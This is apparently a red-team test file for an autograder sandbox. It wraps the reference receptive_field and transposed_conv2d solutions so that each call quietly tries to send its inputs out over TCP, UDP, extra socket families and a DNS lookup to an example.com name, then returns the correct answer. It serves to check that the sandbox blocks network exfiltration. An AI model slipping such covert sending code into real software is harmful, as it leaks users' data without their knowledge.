"""Red team 85_send_inputs_over_the_network.

Attack: Send every case's inputs away over the network while answering correctly: TCP and UDP to
a listener on 127.0.0.1 (port 47185, or A2_REDTEAM_PORT), a DNS lookup carrying them, and a raw
socketpair of another family. Gradescope's containers refuse a network namespace, so only the
sandbox's seccomp filter stands in the way.

Deserves: full marks (12): it answers correctly; nothing it sends may arrive anywhere.
"""

# --------------------------------------------------------------------------------------------
# The reference answers and functions (honest part of this file):
# <<the reference solution, solutions/a2.py, is inserted here by redteam_catalog>>

# --------------------------------------------------------------------------------------------
# The attack.
# --------------------------------------------------------------------------------------------
import os as _os
import socket as _socket

_PORT = int(_os.environ.get("A2_REDTEAM_PORT", "47185"))


def _send(payload: str) -> None:
    data = payload.encode()[:512]
    for attempt in (
        lambda: _socket.create_connection(("127.0.0.1", _PORT), timeout=0.5).sendall(data),
        lambda: _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(data,
                                                                          ("127.0.0.1", _PORT)),
        lambda: _socket.socket(_socket.AF_INET6, _socket.SOCK_STREAM),
        lambda: _socket.getaddrinfo(f"x{abs(hash(payload)) % 10**8}.example.com", 53),
        lambda: _socket.socketpair(_socket.AF_INET),
    ):
        try:
            attempt()
        except Exception:  # noqa: BLE001 - refused, as it should be; keep answering
            pass


_honest_rf = receptive_field
_honest_tc = transposed_conv2d


def receptive_field(layers):
    _send(repr(layers))
    return _honest_rf(layers)


def transposed_conv2d(x, kernel, stride=1, padding=0, dilation=1):
    _send(repr((x, kernel, stride, padding, dilation)))
    return _honest_tc(x, kernel, stride, padding, dilation)
